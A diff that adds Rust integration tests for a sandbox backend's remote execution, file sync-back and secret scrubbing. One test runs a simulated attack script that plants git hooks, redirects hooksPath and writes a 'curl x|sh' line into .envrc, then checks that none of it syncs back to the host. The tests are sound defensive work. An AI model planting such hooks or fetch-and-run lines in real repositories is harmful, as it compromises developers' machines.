@@ -1,0 +1,451 @@
+//! End to end through `host::opensandbox::run` against the fake
+//! OpenSandbox server (real HTTP on 127.0.0.1, real `sh` processes).
+#![cfg(unix)]
+
+#[path = "support/fake_opensandbox/mod.rs"]
+mod fake_opensandbox;
+#[path = "support/opensandbox_env.rs"]
+mod opensandbox_env;
+
+use codewhale::host::opensandbox::{self, OpenSandboxSession};
+use codewhale::host::{BackendKind, EnforcementLevel, ExecRequest, ExitKind};
+use codewhale::policy::SandboxMode;
+use opensandbox_env::{sh, Env};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::PathBuf;
+use std::time::Duration;
+
+#[tokio::test]
+async fn workspace_write_exit_code_output_and_sync_back() {
+    let env = Env::start(|_| {}).await;
+    fs::write(env.ws.join("existing.txt"), "from host\n").unwrap();
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let req = ExecRequest::new(sh(
+        "echo hi > f && cat existing.txt && echo err >&2 && exit 3",
+    ));
+    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
+    assert_eq!(out.exit, ExitKind::Code(3));
+    assert_eq!(out.shell_code(), 3);
+    assert!(!out.timed_out);
+    assert_eq!(out.stdout.text(), "from host\n");
+    assert_eq!(out.stderr.text(), "err\n");
+    assert_eq!(fs::read_to_string(env.ws.join("f")).unwrap(), "hi\n");
+    let e = &out.enforcement;
+    assert_eq!(e.backend, BackendKind::Opensandbox);
+    assert_eq!(e.level, EnforcementLevel::External);
+    let ext = e.external.as_ref().expect("external report");
+    assert_eq!(ext.provider, "opensandbox");
+    assert_eq!(ext.sandbox_id, "sbx-1");
+    assert!(ext.note.contains("depends on the deployment"));
+    assert_eq!(ext.synced_up, 1);
+    assert_eq!(ext.synced_back, vec![PathBuf::from("f")]);
+    assert!(ext.sync_refused.is_empty());
+    assert!(!e.network_allowed);
+    // keep = false: the sandbox is deleted afterwards.
+    assert_eq!(env.fake.deleted(), vec!["sbx-1".to_string()]);
+    assert!(
+        env.fake.violations().is_empty(),
+        "{:?}",
+        env.fake.violations()
+    );
+}
+
+#[tokio::test]
+async fn protected_paths_written_remotely_are_not_synced_back() {
+    let env = Env::start(|_| {}).await;
+    fs::create_dir_all(env.ws.join(".git/hooks")).unwrap();
+    fs::write(env.ws.join(".git/config"), "[core]\n").unwrap();
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let script = "echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
+                  && echo '[core] hooksPath=/tmp' >> .git/config && echo 'curl x|sh' > .envrc \
+                  && mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout \
+                  && echo ok > allowed.txt";
+    let out = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh(script)))
+        .await
+        .expect("run");
+    assert_eq!(out.exit, ExitKind::Code(0), "{}", out.stderr.text());
+    // The attack really happened in the sandbox's copy...
+    assert!(env.remote_ws.join(".git/hooks/pre-commit").exists());
+    assert!(env.remote_ws.join(".envrc").exists());
+    // ...and none of it reached the host.
+    assert!(!env.ws.join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        fs::read_to_string(env.ws.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert!(!env.ws.join(".envrc").exists());
+    assert!(!env.ws.join("sub/.git/hooks/post-checkout").exists());
+    // Positive control: an ordinary file in the same run came back.
+    assert_eq!(
+        fs::read_to_string(env.ws.join("allowed.txt")).unwrap(),
+        "ok\n"
+    );
+    let ext = out.enforcement.external.unwrap();
+    let mut refused: Vec<String> = ext
+        .sync_refused
+        .iter()
+        .map(|p| p.display().to_string())
+        .collect();
+    refused.sort();
+    assert_eq!(
+        refused,
+        vec![
+            ".envrc",
+            ".git/config",
+            ".git/hooks/pre-commit",
+            "sub/.git/hooks/post-checkout"
+        ]
+    );
+    assert!(out
+        .enforcement
+        .partial
+        .iter()
+        .any(|p| p.contains("sync-back refused .envrc")));
+}
+
+#[tokio::test]
+async fn deny_read_files_are_not_uploaded_and_env_is_scrubbed() {
+    let env = Env::start(|_| {}).await;
+    fs::write(env.ws.join(".env"), "SECRET=hunter2\n").unwrap();
+    fs::write(env.ws.join(".env.example"), "SECRET=\n").unwrap();
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let mut req = ExecRequest::new(sh(
+        "cat .env.example; cat .env 2>/dev/null || echo no-env-file; echo \"key=${MY_API_KEY-unset} vis=$VISIBLE\"",
+    ));
+    let mut base = BTreeMap::new();
+    base.insert("MY_API_KEY".to_string(), "sk-123".to_string());
+    base.insert("VISIBLE".to_string(), "v".to_string());
+    req.env = Some(base);
+    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
+    assert_eq!(out.stdout.text(), "SECRET=\nno-env-file\nkey=unset vis=v\n");
+    assert!(!env.remote_ws.join(".env").exists());
+    assert!(env.remote_ws.join(".env.example").exists());
+    assert_eq!(out.enforcement.env_removed, vec!["MY_API_KEY".to_string()]);
+    // The secret never crossed the wire.
+    for req in env.fake.requests() {
+        assert!(!format!("{:?}", req.body).contains("sk-123"));
+    }
+    // The local .env was left alone by the sync-back.
+    assert_eq!(
+        fs::read_to_string(env.ws.join(".env")).unwrap(),
+        "SECRET=hunter2\n"
+    );
+}
+
+#[tokio::test]
+async fn timeout_interrupts_the_remote_command() {
+    let env = Env::start(|_| {}).await;
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let mut req = ExecRequest::new(sh("echo $$ > pid; echo started; exec sleep 30"));
+    req.timeout = Some(Duration::from_millis(800));
+    let t0 = std::time::Instant::now();
+    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
+    assert!(out.timed_out);
+    assert_eq!(out.shell_code(), 124);
+    assert!(
+        t0.elapsed() < Duration::from_secs(25),
+        "the 30 s command was not cut short"
+    );
+    assert_eq!(out.stdout.text(), "started\n");
+    let interrupted = env.fake.interrupted();
+    assert_eq!(interrupted.len(), 1, "the fake saw DELETE /command?id=…");
+    assert!(interrupted[0].starts_with("cmd-"));
+    // The process really died (pid file came back through the sync).
+    let pid: i32 = fs::read_to_string(env.ws.join("pid"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let mut alive = true;
+    for _ in 0..50 {
+        if nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_err() {
+            alive = false;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert!(!alive, "remote sleep {pid} still running");
+}
+
+#[tokio::test]
+async fn read_only_syncs_nothing_back() {
+    let env = Env::start(|_| {}).await;
+    fs::write(env.ws.join("existing.txt"), "orig\n").unwrap();
+    let r = env.resolved(SandboxMode::ReadOnly);
+    let out = opensandbox::run(
+        &env.cfg,
+        &r,
+        ExecRequest::new(sh(
+            "echo x > new.txt && echo changed > existing.txt && cat existing.txt",
+        )),
+    )
+    .await
+    .expect("run");
+    assert_eq!(out.exit, ExitKind::Code(0));
+    // Positive control: the remote copy did change.
+    assert_eq!(out.stdout.text(), "changed\n");
+    assert!(env.remote_ws.join("new.txt").exists());
+    // The host did not.
+    assert!(!env.ws.join("new.txt").exists());
+    assert_eq!(
+        fs::read_to_string(env.ws.join("existing.txt")).unwrap(),
+        "orig\n"
+    );
+    let ext = out.enforcement.external.unwrap();
+    assert!(ext.synced_back.is_empty());
+    let reqs = env.fake.requests();
+    assert!(!reqs.iter().any(|r| r.path == "/files/download"));
+    let commands = reqs
+        .iter()
+        .filter(|r| r.path == "/command" && r.method == "POST")
+        .count();
+    assert_eq!(commands, 2, "unpack + the command; no manifest listing");
+}
+
+#[tokio::test]
+async fn framing_variants_and_dropped_final_chunk() {
+    // data: prefixes, a connection dropped without its final chunk, and a
+    // close delay far longer than the test may take: the client must stop
+    // at the terminal event.
+    let env = Env::start(|o| {
+        o.data_prefix = true;
+        o.drop_final_chunk = true;
+        o.close_delay = Duration::from_secs(60);
+        o.ping_every = Duration::from_millis(50);
+    })
+    .await;
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let t0 = std::time::Instant::now();
+    let out = opensandbox::run(
+        &env.cfg,
+        &r,
+        ExecRequest::new(sh("echo a; sleep 0.3; echo b; exit 7")),
+    )
+    .await
+    .expect("run");
+    assert!(
+        t0.elapsed() < Duration::from_secs(45),
+        "waited for the close delay"
+    );
+    assert_eq!(out.exit, ExitKind::Code(7));
+    assert_eq!(out.stdout.text(), "a\nb\n");
+}
+
+#[tokio::test]
+async fn output_cap_truncates_with_marker() {
+    let env = Env::start(|_| {}).await;
+    let r = env.resolved(SandboxMode::ReadOnly);
+    let mut req = ExecRequest::new(sh(
+        "i=0; while [ $i -lt 200 ]; do echo 0123456789; i=$((i+1)); done",
+    ));
+    req.output_cap = 100;
+    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
+    assert_eq!(out.stdout.bytes.len(), 100);
+    assert_eq!(out.stdout.total, 2200);
+    assert!(out.stdout.truncated);
+    assert!(out.stdout.text().contains("output truncated"));
+}
+
+#[tokio::test]
+async fn session_reuses_one_sandbox_and_recreates_a_vanished_one_once() {
+    let env = Env::start(|_| {}).await;
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let mut s = OpenSandboxSession::open(&env.cfg, &r).await.expect("open");
+    let a = s
+        .exec(&r, ExecRequest::new(sh("echo one > state")))
+        .await
+        .unwrap();
+    let b = s.exec(&r, ExecRequest::new(sh("cat state"))).await.unwrap();
+    assert_eq!(b.stdout.text(), "one\n");
+    assert_eq!(a.enforcement.external.unwrap().sandbox_id, "sbx-1");
+    let uploads = |env: &Env| {
+        env.fake
+            .requests()
+            .iter()
+            .filter(|r| r.path == "/files/upload")
+            .count()
+    };
+    assert_eq!(
+        uploads(&env),
+        1,
+        "the workspace is uploaded once per sandbox"
+    );
+    let renews = env
+        .fake
+        .requests()
+        .iter()
+        .filter(|r| r.path.ends_with("/renew-expiration"))
+        .count();
+    assert_eq!(renews, 2, "renewed before each command");
+    // The deployment loses the sandbox: the next command recreates it once.
+    env.fake.state.lock().sandboxes.clear();
+    let c = s.exec(&r, ExecRequest::new(sh("cat state"))).await.unwrap();
+    let ext = c.enforcement.external.as_ref().unwrap();
+    assert_ne!(ext.sandbox_id, "sbx-1");
+    assert_eq!(
+        c.stdout.text(),
+        "one\n",
+        "state was synced back and uploaded again"
+    );
+    assert_eq!(uploads(&env), 2);
+    assert!(c
+        .enforcement
+        .partial
+        .iter()
+        .any(|p| p.contains("recreated")));
+    s.close().await.unwrap();
+    assert!(env.fake.live_sandboxes().is_empty());
+}
+
+#[tokio::test]
+async fn keep_reuses_the_workspace_sandbox_across_runs() {
+    let env = Env::start_with(|_| {}, "keep = true\n").await;
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    for _ in 0..2 {
+        let out = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh("true")))
+            .await
+            .unwrap();
+        assert_eq!(out.enforcement.external.unwrap().sandbox_id, "sbx-1");
+    }
+    let reqs = env.fake.requests();
+    assert_eq!(
+        reqs.iter()
+            .filter(|r| r.method == "POST" && r.path == "/v1/sandboxes")
+            .count(),
+        1
+    );
+    let list = reqs
+        .iter()
+        .find(|r| r.method == "GET" && r.path == "/v1/sandboxes")
+        .unwrap();
+    assert!(
+        list.query
+            .starts_with("metadata=codewhale-network%3Doff%26codewhale-workspace%3D"),
+        "{}",
+        list.query
+    );
+    assert!(env.fake.deleted().is_empty());
+    // A run with network on must not reuse the egress-denied sandbox.
+    let mut policy = codewhale::policy::SandboxPolicy::new(SandboxMode::WorkspaceWrite, &env.ws);
+    policy.network = true;
+    let facts = codewhale::policy::HostFacts {
+        homes: vec![env.tmp.path().join("home")],
+        cargo_home: None,
+        xdg_cache_home: None,
+    };
+    let r_net = codewhale::policy::resolve(&policy, &facts).unwrap();
+    let out = opensandbox::run(&env.cfg, &r_net, ExecRequest::new(sh("true")))
+        .await
+        .unwrap();
+    assert_ne!(out.enforcement.external.unwrap().sandbox_id, "sbx-1");
+}
+
+#[tokio::test]
+async fn a_file_changed_on_both_sides_keeps_the_host_version() {
+    let env = Env::start(|_| {}).await;
+    fs::write(env.ws.join("c.txt"), "v1\n").unwrap();
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    let (cfg, r2) = (env.cfg.clone(), r.clone());
+    let task = tokio::spawn(async move {
+        let script =
+            "while [ ! -f go ]; do sleep 0.05; done; echo remote > c.txt; echo remote > d.txt";
+        opensandbox::run(&cfg, &r2, ExecRequest::new(sh(script))).await
+    });
+    // Wait until the command runs remotely, edit the host copy, then let it go on.
+    for _ in 0..200 {
+        if env
+            .fake
+            .requests()
+            .iter()
+            .filter(|q| q.path == "/command")
+            .count()
+            >= 2
+        {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    fs::write(env.ws.join("c.txt"), "host edit\n").unwrap();
+    fs::write(env.remote_ws.join("go"), "").unwrap();
+    let out = task.await.unwrap().expect("run");
+    assert_eq!(
+        fs::read_to_string(env.ws.join("c.txt")).unwrap(),
+        "host edit\n"
+    );
+    // Positive control: the file only the remote changed came back.
+    assert_eq!(
+        fs::read_to_string(env.ws.join("d.txt")).unwrap(),
+        "remote\n"
+    );
+    assert!(out
+        .enforcement
+        .partial
+        .iter()
+        .any(|p| p.contains("c.txt changed on the host during the command too")));
+}
+
+#[tokio::test]
+async fn cancelling_the_run_interrupts_the_remote_command() {
+    let env = Env::start(|_| {}).await;
+    let r = env.resolved(SandboxMode::WorkspaceWrite);
+    // No request timeout: the caller gives up (as the CLI does on Ctrl-C)
+    // by dropping the future once the command is running.
+    // Boxed so that `drop(run)` really drops the future (a stack pin would
+    // only drop the reference).
+    let mut run = Box::pin(opensandbox::run(
+        &env.cfg,
+        &r,
+        ExecRequest::new(sh("echo $$ > pid; exec sleep 30")),
+    ));
+    let mut started = false;
+    for _ in 0..400 {
+        tokio::select! {
+            res = &mut run => panic!("finished early: {:?}", res.map(|o| o.exit)),
+            _ = tokio::time::sleep(Duration::from_millis(25)) => {}
+        }
+        if env.remote_ws.join("pid").exists() {
+            started = true;
+            break;
+        }
+    }
+    assert!(started, "the remote command never started");
+    // Let the client read the `init` event (the command id) first: a run
+    // dropped before that cannot be interrupted (documented).
+    tokio::select! {
+        res = &mut run => panic!("finished early: {:?}", res.map(|o| o.exit)),
+        _ = tokio::time::sleep(Duration::from_millis(200)) => {}
+    }
+    drop(run);
+    let mut seen = false;
+    for _ in 0..200 {
+        if !env.fake.interrupted().is_empty() {
+            seen = true;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(25)).await;
+    }
+    assert!(
+        seen,
+        "no DELETE /command after the run was dropped: {:#?}",
+        env.fake
+            .requests()
+            .iter()
+            .map(|r| (r.method.clone(), r.path.clone(), r.query.clone()))
+            .collect::<Vec<_>>()
+    );
+    let pid: i32 = fs::read_to_string(env.remote_ws.join("pid"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let mut alive = true;
+    for _ in 0..100 {
+        if nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_err() {
+            alive = false;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    assert!(!alive, "remote sleep {pid} still running");
+}
